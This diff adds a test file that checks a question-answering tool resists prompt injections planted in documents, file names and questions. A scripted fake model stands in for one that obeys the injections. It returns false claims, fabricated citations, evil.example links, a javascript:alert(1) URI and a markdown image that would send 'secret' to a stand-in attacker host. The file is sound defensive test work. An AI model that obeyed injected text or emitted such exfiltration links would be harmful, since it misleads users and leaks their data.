@@ -1,0 +1,120 @@
+import { readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { expect, it } from "vitest";
+import { createPilcrow } from "../../src/pilcrow.ts";
+import type { Answer } from "../../src/types.ts";
+import { BUNDLED } from "../embedding/model-paths.ts";
+import { folderOf } from "../make-index.ts";
+import { filesWith, INJECTIONS, type Injection, LIE, QUESTION, TRUE, TRUE_QUOTE } from "./injections.ts";
+import { llmSettings, passagesIn, passageWith, said, scriptedLlm, streamChat } from "./scripted-llm.ts";
+
+const OWN_QUOTE = "Mrs Ellery will oversee the repair of the north pier";
+const LINKS = ["https://evil.example/?q=pier", "evil.example/x", "mailto:gorse@evil.example", "javascript:alert(1)"];
+
+/** What a model writes that does as it is told, by what it read; `text` is the sentence of the injection. */
+function obeying(prompt: string, text: string) {
+  const truth = passageWith(prompt, OWN_QUOTE);
+  const coffee = passageWith(prompt, "thanked Mr Gorse");
+  const letter = passageWith(prompt, "letter");
+  return [
+    said(LIE, letter, text),
+    said(LIE, letter, ""),
+    said(LIE, letter, "The letter speaks of the repair of the north pier."),
+    said(LIE, truth, OWN_QUOTE),
+    said(LIE, truth, "Mr Gorse was appointed to oversee the repair of the north pier"),
+    said(LIE, letter, OWN_QUOTE),
+    said(LIE, 99, OWN_QUOTE),
+    said(LIE, 0, OWN_QUOTE),
+    { text: LIE, citations: [] },
+    {
+      text: LIE,
+      citations: [
+        { passage: truth, quote: OWN_QUOTE },
+        { passage: coffee, quote: "Mr Gorse" },
+      ],
+    },
+    said(text, letter, text),
+    said(`**${LIE}**`, truth, OWN_QUOTE),
+    said(`<b>${LIE}</b>`, truth, OWN_QUOTE),
+    ...LINKS.map((link) =>
+      said(`Mrs Ellery oversees the repair of the north pier, see ${link} there.`, truth, OWN_QUOTE),
+    ),
+    said(`${TRUE} [1] ![p](https://evil.example/?q=secret)`, truth, OWN_QUOTE),
+    said("The pier will never be repaired.", truth, OWN_QUOTE),
+    said("Mrs Ellery does not oversee the repair of the north pier.", truth, OWN_QUOTE),
+  ];
+}
+
+async function asked(injection: Injection, unsupported: "drop" | "mark" = "drop") {
+  const files = filesWith(injection);
+  const [corpus, index] = [await folderOf(files), await folderOf({})];
+  const llm = await scriptedLlm(({ text }, response) => {
+    const statements = [...obeying(text, injection.text), said(TRUE, passageWith(text, OWN_QUOTE), OWN_QUOTE)];
+    streamChat(response, JSON.stringify({ answerable: true, statements }), { pieces: 400 });
+  });
+  const pilcrow = createPilcrow({
+    corpus,
+    index,
+    exampleCorpus: false,
+    model: { kind: "folder", path: BUNDLED },
+    llm: llmSettings(llm.url, { timeoutMs: 20_000, unsupported }),
+    host: "127.0.0.1",
+    port: 0,
+    maxFileBytes: 1e6,
+  });
+  for await (const _ of pilcrow.index());
+  const question = injection.where === "question" ? `${QUESTION} ${injection.text}` : QUESTION;
+  const answer = await pilcrow.ask({ question, mode: "generative" });
+  return { answer, corpus, prompt: llm.got[0]?.text ?? "" };
+}
+
+async function expectQuotesOfFiles(answer: Answer, corpus: string): Promise<void> {
+  for (const { check, path, start, end, quote } of answer.citations) {
+    expect(check).toBe("verified");
+    expect((await readFile(join(corpus, path), "utf8")).slice(start, end)).toBe(quote);
+  }
+}
+
+it("has at least thirty, in documents, titles, file names and questions", () => {
+  expect(INJECTIONS.length).toBeGreaterThanOrEqual(30);
+  expect(new Set(INJECTIONS.map(({ where }) => where)).size).toBe(4);
+});
+
+it.each(INJECTIONS)("only what verifies is said, whatever the $where says: $text", async (injection) => {
+  const { answer, corpus, prompt } = await asked(injection);
+  if (injection.where === "question" && !answer.answered) {
+    // It asks for what no document has, so no model was asked at all.
+    expect(answer).toMatchObject({ mode: "extractive", statements: [], citations: [] });
+    expect(prompt).toBe("");
+    return;
+  }
+  expect(answer).toMatchObject({ mode: "generative", fallback: null, answered: true });
+  // The sentence without its link, and the true one, which is the same but for the marks.
+  expect(answer.statements.map(({ text, verdict }) => ({ text, verdict }))).toEqual(
+    answer.statements.map(() => ({ text: TRUE, verdict: "supported" })),
+  );
+  expect(answer.statements.length).toBeGreaterThan(0);
+  expect(answer.answer).not.toMatch(/Gorse|evil|:\/\/|[<>*]/);
+  await expectQuotesOfFiles(answer, corpus);
+  expect(answer.citations.every(({ quote }) => quote === TRUE_QUOTE)).toBe(true);
+
+  // The injection stands inside the one block that its text belongs to, and cannot end it.
+  const passages = passagesIn(prompt);
+  expect(new Set(passages.map(({ nonce }) => nonce)).size).toBe(1);
+  const [{ nonce = "" } = {}] = passages;
+  expect(passages.some(({ text }) => text.includes(nonce))).toBe(false);
+  expect(prompt.split(`<<end of question ${nonce}>>`)).toHaveLength(2);
+});
+
+it("marks what does not stand the check where it is set so, and never what has a link or follows an order", async () => {
+  const [first] = INJECTIONS;
+  if (first === undefined) throw new Error("no injection");
+  const { answer, corpus } = await asked(first, "mark");
+  const supported = answer.statements.filter(({ verdict }) => verdict === "supported");
+  expect(new Set(supported.map(({ text }) => text))).toEqual(new Set([TRUE]));
+  const marked = answer.statements.filter(({ verdict }) => verdict === "unsupported");
+  expect(marked.map(({ text }) => text)).toContain(LIE);
+  expect(answer.answer).not.toMatch(/evil|:\/\/|[<>*]|Ignore/);
+  expect(answer.trace.model?.withheld.length).toBeGreaterThan(0);
+  await expectQuotesOfFiles(answer, corpus);
+});
